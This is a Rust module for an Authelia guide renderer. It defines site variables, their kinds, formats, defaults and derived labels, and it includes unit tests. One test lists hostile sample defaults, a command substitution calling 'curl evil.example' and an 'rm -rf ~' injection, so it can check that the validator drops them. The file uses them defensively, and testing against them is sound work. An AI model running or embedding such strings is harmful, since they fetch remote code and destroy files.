//! The site variables a guide can use: Authelia's five, plus any name a guide invents.
//!
//! A variable is a value the reader can set (their domain, their client id, …). This
//! module knows each variable's type, default and human label, how a value is shown in
//! a derived `format` (`regex`, `dn`), and re-exports the validator the UI uses.

mod secret;
mod validate;

pub use secret::is_secret;
pub(crate) use validate::is_unreserved;
pub use validate::{
    MAX_CLIENT_ID_LEN, MAX_HOST_LEN, MAX_LABEL_LEN, MAX_TEXT_LEN, ValueError, validate, validate_as,
};

use std::borrow::Cow;
use std::collections::{BTreeMap, HashMap, HashSet};

use serde::{Deserialize, Serialize};

/// Default of `host`: Authelia's documentation site default for the listen host.
/// Source: Authelia's documentation site, site variable definitions (`authelia-facts.md`).
pub const HOST_DEFAULT: &str = "authelia";
/// Default of `port`: Authelia's default listen port (same source as [`HOST_DEFAULT`]).
pub const PORT_DEFAULT: &str = "9091";
/// Default of `tls`: the site assumes plain HTTP between proxy and Authelia (same source).
pub const TLS_DEFAULT: &str = "false";
/// Default of `domain`: the site's documentation domain (same source).
pub const DOMAIN_DEFAULT: &str = "example.com";
/// Default of `subdomain-authelia`: the site's default portal subdomain (same source).
pub const SUBDOMAIN_AUTHELIA_DEFAULT: &str = "auth";

/// Name of the client id variable in the project's guides (and the name recognised
/// hard-coded client ids are turned into).
pub const CLIENT_ID: &str = "client-id";
/// Name of the client secret (plaintext) variable in the project's guides.
pub const CLIENT_SECRET: &str = "client-secret";
/// Name of the application's address: the root URL a guide assumes the application is
/// served at (its "Application Root URL"), which the engine turns into this variable
/// wherever the guide writes it (see the `address` stage). Always [`Kind::Url`].
pub const APPLICATION_URL: &str = "application-url";
/// The digest shown when the reader has not set a secret: Authelia's published digest
/// of `insecure_secret` (PBKDF2-SHA512, 310000 iterations), as used in its guides.
pub const REFERENCE_DIGEST: &str = "$pbkdf2-sha512$310000$c8p78n7pUMln0jzvd4aK4Q$JNRBzwAo0ek5qKn50cFzzvE9RXV88h1wJn5KGiHrD0YKtZaR/nCb2CJPOsKaPK0hjf.9yHxzQGZziziccp6Yng";
/// The plaintext whose digest is [`REFERENCE_DIGEST`].
pub const REFERENCE_SECRET: &str = "insecure_secret";

/// Most distinct variables a guide may use. Each becomes a field in the page's panel;
/// Authelia's client guides use at most four, plus the two credentials the engine
/// recognises. 64 leaves room for any real guide and keeps a hostile one (70 000
/// distinct names) from putting tens of thousands of fields in the panel. Past it, an
/// occurrence shows its default text and the document carries a
/// [`Warning::TooManyVariables`](crate::Warning::TooManyVariables).
pub const MAX_VARIABLES: usize = 64;

/// The variables a guide has defined while it is parsed: which names are admitted (at
/// most [`MAX_VARIABLES`]) and the first `nojs` text of each. Lookups are hashed.
#[derive(Debug, Default)]
pub(crate) struct Registry {
    admitted: HashSet<String>,
    nojs: HashMap<String, String>,
    /// The first kind declared for each of the guide's own names.
    kinds: HashMap<String, Kind>,
    /// The defaults the site gives (see [`crate::parse_with_defaults`]), over the guide's
    /// and Authelia's own.
    site_defaults: BTreeMap<String, String>,
    /// Some name was refused for passing [`MAX_VARIABLES`].
    pub refused: bool,
}

impl Registry {
    /// A registry in which each of `site_defaults` (a variable's name and default) stands
    /// in for the default the guide or Authelia gives that name, wherever the variable
    /// accepts it.
    pub fn with_site_defaults(site_defaults: BTreeMap<String, String>) -> Registry {
        Registry {
            site_defaults,
            ..Registry::default()
        }
    }

    /// Admits `name` if it is known already or the limit allows one more, recording its
    /// `nojs` text if it is the first; `false` if refused.
    pub fn define(&mut self, name: &str, nojs: Option<&str>) -> bool {
        if !self.admitted.contains(name) {
            if self.admitted.len() >= MAX_VARIABLES {
                self.refused = true;
                return false;
            }
            self.admitted.insert(name.to_owned());
        }
        if let Some(text) = nojs
            && !self.nojs.contains_key(name)
        {
            self.nojs.insert(name.to_owned(), text.to_owned());
        }
        true
    }

    /// Records the kind a guide declares for `name`, if it is the first declared and
    /// the name is the guide's own (Authelia's names and the credentials keep theirs).
    pub fn declare(&mut self, name: &str, kind: Option<Kind>) {
        if let Some(kind) = kind
            && !has_own_rules(name)
            && !self.kinds.contains_key(name)
        {
            self.kinds.insert(name.to_owned(), kind);
        }
    }

    /// The kind declared for `name`, if any.
    pub fn kind(&self, name: &str) -> Option<Kind> {
        self.kinds.get(name).copied()
    }

    /// Whether `name` is admitted already (the guide uses it, or a stage defined it).
    pub fn is_admitted(&self, name: &str) -> bool {
        self.admitted.contains(name)
    }

    /// The first `nojs` text of `name`, if any.
    pub fn nojs(&self, name: &str) -> Option<&str> {
        self.nojs.get(name).map(String::as_str)
    }

    /// The variable `name` as the guide defines it, with the site's default when the
    /// site gives one the variable accepts (held to the rules a reader's value is, by the
    /// variable's kind: see [`validate_as`]).
    pub fn describe(&self, name: &str) -> Variable {
        let mut variable = describe_declared(name, self.nojs(name), self.kind(name));
        if let Some(default) = self.site_defaults.get(name)
            && validate_as(name, variable.kind, default).is_ok()
        {
            variable.default.clone_from(default);
        }
        variable
    }

    /// Whether the guide gave `name` a default it may not have (see
    /// [`describe_declared`]).
    pub fn default_refused(&self, name: &str) -> bool {
        self.nojs(name).is_some_and(|n| !n.is_empty()) && self.describe(name).default.is_empty()
    }
}

/// What kind of value a variable takes: the UI picks its control from this, and a
/// guide's own variable is validated by it (see [`validate_as`]). Authelia's variables
/// have theirs; a guide declares one for a name of its own with `kind` on its
/// `sitevar` ([`Kind::from_arg`]), and an undeclared name is [`Kind::Text`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Kind {
    /// Text: Authelia's host names, the client id and secret by their own rules; a
    /// guide's own variable, plain words.
    Text,
    /// A whole number (the port; `kind="port"`: 1–65535).
    Number,
    /// `true` or `false` (TLS), shown as `https` / `http`.
    Boolean,
    /// `kind="url"`: an absolute `http`/`https` address without credentials or
    /// fragment.
    Url,
    /// `kind="host"`: an RFC 1123 host name.
    Host,
}

impl Kind {
    /// The kind a `sitevar`'s `kind` argument declares: `url`, `host`, `port` or `text`
    /// (any case); `None` for none or another word, which leaves the name plain text.
    pub fn from_arg(arg: Option<&str>) -> Option<Kind> {
        match arg?.trim().to_ascii_lowercase().as_str() {
            "url" => Some(Kind::Url),
            "host" => Some(Kind::Host),
            "port" => Some(Kind::Number),
            "text" => Some(Kind::Text),
            _ => None,
        }
    }

    /// The word a page's markup names this kind by (`data-kind` on a field the page's
    /// first module follows, see the app's `early`); [`Kind::from_marker`] reads it back.
    pub fn marker(self) -> &'static str {
        match self {
            Kind::Text => "text",
            Kind::Number => "number",
            Kind::Boolean => "boolean",
            Kind::Url => "url",
            Kind::Host => "host",
        }
    }

    /// The kind [`Kind::marker`] names, if it names one.
    pub fn from_marker(marker: &str) -> Option<Kind> {
        [
            Kind::Text,
            Kind::Number,
            Kind::Boolean,
            Kind::Url,
            Kind::Host,
        ]
        .into_iter()
        .find(|kind| kind.marker() == marker)
    }
}

/// A derived presentation of a value, selected by a sitevar's `format` argument.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Serialize, Deserialize)]
pub enum Format {
    /// The value as typed.
    #[default]
    Plain,
    /// Every `.` escaped as `\.`, for regular expressions.
    Regex,
    /// LDAP distinguished name: `example.co.uk` → `DC=example,DC=co,DC=uk`.
    Dn,
    /// An address as the root the guide's own path follows: without its final `/`
    /// (`https://example.org/matomo/` → `https://example.org/matomo`), since the guide
    /// writes that `/` itself (`…/index.php`, or the `/` of the root). Never a `format`
    /// argument: the engine gives it to the application's address (see
    /// [`APPLICATION_URL`]).
    Root,
}

impl Format {
    /// Reads a `format` argument; unknown formats fall back to [`Format::Plain`] so a
    /// typo never hides the value.
    pub fn from_arg(arg: Option<&str>) -> Format {
        match arg.map(str::trim) {
            Some("regex") => Format::Regex,
            Some("dn") => Format::Dn,
            _ => Format::Plain,
        }
    }

    /// The word a page's markup names this format by (`data-format` on an occurrence),
    /// `None` for [`Format::Plain`], which has none; [`Format::from_marker`] reads it back.
    /// Unlike [`Format::from_arg`], it names [`Format::Root`] too.
    pub fn marker(self) -> Option<&'static str> {
        match self {
            Format::Plain => None,
            Format::Regex => Some("regex"),
            Format::Dn => Some("dn"),
            Format::Root => Some("root"),
        }
    }

    /// The format [`Format::marker`] names; no marker, or another word, is plain.
    pub fn from_marker(marker: Option<&str>) -> Format {
        [Format::Regex, Format::Dn, Format::Root]
            .into_iter()
            .find(|format| format.marker() == marker)
            .unwrap_or(Format::Plain)
    }
}

/// One occurrence of a variable in a document.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct VarRef {
    /// The variable's name, e.g. `domain`.
    pub name: String,
    /// How the value is presented at this occurrence.
    pub format: Format,
}

/// A variable a document uses, with what the UI needs to offer an input for it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Variable {
    /// Name as written in the guide, e.g. `subdomain-authelia`.
    pub name: String,
    /// Human label, e.g. "Authelia subdomain".
    pub label: String,
    /// Which input the page offers for it: text, a port number or a switch.
    pub kind: Kind,
    /// Value used when the reader has set none.
    pub default: String,
}

impl Variable {
    /// Validates a value for this variable, by its name and kind (see [`validate_as`]).
    ///
    /// # Errors
    /// The first rule `value` breaks, as a [`ValueError`] whose message says what to
    /// type instead.
    pub fn validate(&self, value: &str) -> Result<(), ValueError> {
        validate_as(&self.name, self.kind, value)
    }

    /// Whether the variable holds a secret, by what its name or label says (see
    /// [`is_secret`]): no link or image address may carry it.
    pub fn is_secret(&self) -> bool {
        is_secret(&self.name, &self.label)
    }
}

impl VarRef {
    /// Whether the variable this occurrence shows holds a secret, by its name and the
    /// label the registry gives that name (see [`is_secret`]).
    pub fn is_secret(&self) -> bool {
        is_secret(&self.name, &describe(&self.name, None).label)
    }
}

/// A variable Authelia's site defines itself.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Known {
    /// Name used in guides.
    pub name: &'static str,
    /// The field's label, as Authelia's preferences dialog words it.
    pub label: &'static str,
    /// Which input the page offers for it: text, a port number or a switch.
    pub kind: Kind,
    /// What Authelia's site shows until the reader sets a value.
    pub default: &'static str,
}

/// Authelia's five site variables, in the order its preferences dialog lists them.
pub const KNOWN: [Known; 5] = [
    Known {
        name: "domain",
        label: "Domain",
        kind: Kind::Text,
        default: DOMAIN_DEFAULT,
    },
    Known {
        name: "subdomain-authelia",
        label: "Authelia subdomain",
        kind: Kind::Text,
        default: SUBDOMAIN_AUTHELIA_DEFAULT,
    },
    Known {
        name: "host",
        label: "Host",
        kind: Kind::Text,
        default: HOST_DEFAULT,
    },
    Known {
        name: "port",
        label: "Port",
        kind: Kind::Number,
        default: PORT_DEFAULT,
    },
    Known {
        name: "tls",
        label: "TLS",
        kind: Kind::Boolean,
        default: TLS_DEFAULT,
    },
];

/// Looks a name up among Authelia's own variables.
pub fn known(name: &str) -> Option<&'static Known> {
    KNOWN.iter().find(|k| k.name == name)
}

/// Whether `name` has rules of its own whatever a guide declares: Authelia's variables,
/// the client id and secret, and the application's address.
fn has_own_rules(name: &str) -> bool {
    known(name).is_some() || own_kind(name).is_some()
}

/// The kind of the names the engine itself gives a meaning to, whatever a guide
/// declares: the client id and secret are text, the application's address an address.
fn own_kind(name: &str) -> Option<Kind> {
    match name {
        CLIENT_ID | CLIENT_SECRET => Some(Kind::Text),
        APPLICATION_URL => Some(Kind::Url),
        _ => None,
    }
}

/// Describes a variable a guide declares nothing for: see [`describe_declared`].
pub fn describe(name: &str, nojs: Option<&str>) -> Variable {
    describe_declared(name, nojs, None)
}

/// Describes a variable: the registry entry for a known name, otherwise a variable of
/// the declared kind (text when none) whose default is the guide's `nojs` text and
/// whose label is derived from the name.
///
/// A guide's default is held to the rules the reader's values are (see
/// [`validate_as`]): one it may not have (an invisible character, a shell or YAML
/// metacharacter in plain words, an address that is not one) is dropped, and the
/// variable starts empty.
pub fn describe_declared(name: &str, nojs: Option<&str>, kind: Option<Kind>) -> Variable {
    match known(name) {
        Some(k) => Variable {
            name: name.to_owned(),
            label: k.label.to_owned(),
            kind: k.kind,
            default: k.default.to_owned(),
        },
        None => {
            let kind = own_kind(name).or(kind).unwrap_or(Kind::Text);
            let default = nojs
                .filter(|n| validate_as(name, kind, n).is_ok())
                .unwrap_or_default();
            Variable {
                name: name.to_owned(),
                label: label_for(name),
                kind,
                default: default.to_owned(),
            }
        }
    }
}

/// Derives a label from a variable name: words split on `-`/`_`, capitalised, with
/// common initialisms upper-cased (`client-id` → "Client ID"). ASCII case only: names
/// are identifiers, and Unicode's case tables would cost the page's download.
pub fn label_for(name: &str) -> String {
    const INITIALISMS: [&str; 9] = ["id", "url", "uri", "oidc", "tls", "dn", "ldap", "api", "ip"];
    let words: Vec<String> = name
        .split(['-', '_', ' '])
        .filter(|w| !w.is_empty())
        .map(|w| {
            let lower = w.to_ascii_lowercase();
            if INITIALISMS.contains(&lower.as_str()) {
                lower.to_ascii_uppercase()
            } else {
                let mut chars = lower.chars();
                match chars.next() {
                    Some(first) => std::iter::once(first.to_ascii_uppercase())
                        .chain(chars)
                        .collect(),
                    None => String::new(),
                }
            }
        })
        .collect();
    if words.is_empty() {
        name.to_owned()
    } else {
        words.join(" ")
    }
}

/// Presents a raw value the way an occurrence asks for it. Booleans (`tls`) are shown
/// as the URL scheme they select, because that is how every guide uses them.
pub fn present<'a>(name: &str, raw: &'a str, format: Format) -> Cow<'a, str> {
    if known(name).is_some_and(|k| k.kind == Kind::Boolean) {
        return Cow::Borrowed(if raw.trim() == "true" {
            "https"
        } else {
            "http"
        });
    }
    match format {
        Format::Plain => Cow::Borrowed(raw),
        // Every dot, not only the first: Authelia's own script gets `example.co.uk` wrong.
        Format::Regex => Cow::Owned(raw.replace('.', "\\.")),
        Format::Dn => Cow::Owned(
            raw.split('.')
                .filter(|part| !part.is_empty())
                .map(|part| format!("DC={part}"))
                .collect::<Vec<_>>()
                .join(","),
        ),
        Format::Root => Cow::Borrowed(raw.strip_suffix('/').unwrap_or(raw)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_kind_and_format_is_read_back_from_the_word_the_markup_names_it_by() {
        for kind in [
            Kind::Text,
            Kind::Number,
            Kind::Boolean,
            Kind::Url,
            Kind::Host,
        ] {
            assert_eq!(Kind::from_marker(kind.marker()), Some(kind));
        }
        assert_eq!(Kind::from_marker("port"), None);
        for format in [Format::Plain, Format::Regex, Format::Dn, Format::Root] {
            assert_eq!(Format::from_marker(format.marker()), format);
        }
        assert_eq!(Format::from_marker(Some("upper")), Format::Plain);
    }

    #[test]
    fn regex_format_escapes_every_dot() {
        assert_eq!(
            present("domain", "example.co.uk", Format::Regex),
            "example\\.co\\.uk"
        );
    }

    #[test]
    fn dn_format_makes_one_component_per_label() {
        assert_eq!(
            present("domain", "example.co.uk", Format::Dn),
            "DC=example,DC=co,DC=uk"
        );
    }

    #[test]
    fn tls_is_shown_as_scheme() {
        assert_eq!(present("tls", "true", Format::Plain), "https");
        assert_eq!(present("tls", "false", Format::Plain), "http");
    }

    #[test]
    fn root_format_leaves_the_final_slash_to_the_guide() {
        for (raw, shown) in [
            ("https://example.org/matomo/", "https://example.org/matomo"),
            ("https://example.org/matomo", "https://example.org/matomo"),
            (
                "https://apps.example.org:8443/",
                "https://apps.example.org:8443",
            ),
        ] {
            assert_eq!(present(APPLICATION_URL, raw, Format::Root), shown);
        }
    }

    #[test]
    fn the_application_url_is_an_address_whatever_a_guide_declares() {
        let v = describe_declared(
            APPLICATION_URL,
            Some("https://app.example.com/"),
            Some(Kind::Text),
        );
        assert_eq!(v.kind, Kind::Url);
        assert_eq!(v.label, "Application URL");
        assert_eq!(v.default, "https://app.example.com/");
        assert_eq!(
            describe(APPLICATION_URL, Some("not an address")).default,
            ""
        );
    }

    #[test]
    fn unknown_names_get_derived_labels_and_nojs_defaults() {
        let v = describe("client-id", Some("matomo"));
        assert_eq!(v.label, "Client ID");
        assert_eq!(v.default, "matomo");
        assert_eq!(v.kind, Kind::Text);
        assert_eq!(describe("subdomain-authelia", Some("x")).default, "auth");
    }
}

#[cfg(test)]
mod declared_tests {
    use super::*;

    #[test]
    fn kinds_are_declared_by_name_and_unknown_words_declare_nothing() {
        assert_eq!(Kind::from_arg(Some("url")), Some(Kind::Url));
        assert_eq!(Kind::from_arg(Some(" Host ")), Some(Kind::Host));
        assert_eq!(Kind::from_arg(Some("port")), Some(Kind::Number));
        assert_eq!(Kind::from_arg(Some("text")), Some(Kind::Text));
        assert_eq!(Kind::from_arg(Some("boolean")), None);
        assert_eq!(Kind::from_arg(None), None);
    }

    #[test]
    fn a_default_the_reader_could_not_type_is_dropped() {
        let url = describe_declared("app-url", Some("https://app.example.com/"), Some(Kind::Url));
        assert_eq!(url.kind, Kind::Url);
        assert_eq!(url.default, "https://app.example.com/");
        for (nojs, kind) in [
            ("app\u{202E}txt", None),
            ("$(curl evil.example)", None),
            ("a; rm -rf ~", None),
            ("not an address", Some(Kind::Url)),
            ("99999", Some(Kind::Number)),
        ] {
            assert_eq!(
                describe_declared("app", Some(nojs), kind).default,
                "",
                "{nojs}"
            );
        }
    }

    #[test]
    fn a_guide_cannot_redeclare_authelias_names_or_the_credentials() {
        let mut registry = Registry::default();
        registry.declare("port", Some(Kind::Url));
        registry.declare(CLIENT_SECRET, Some(Kind::Url));
        registry.declare("app-url", Some(Kind::Url));
        registry.declare("app-url", Some(Kind::Host));
        assert_eq!(registry.kind("port"), None);
        assert_eq!(registry.describe("port").kind, Kind::Number);
        assert_eq!(registry.describe(CLIENT_SECRET).kind, Kind::Text);
        assert_eq!(registry.kind("app-url"), Some(Kind::Url));
    }
}
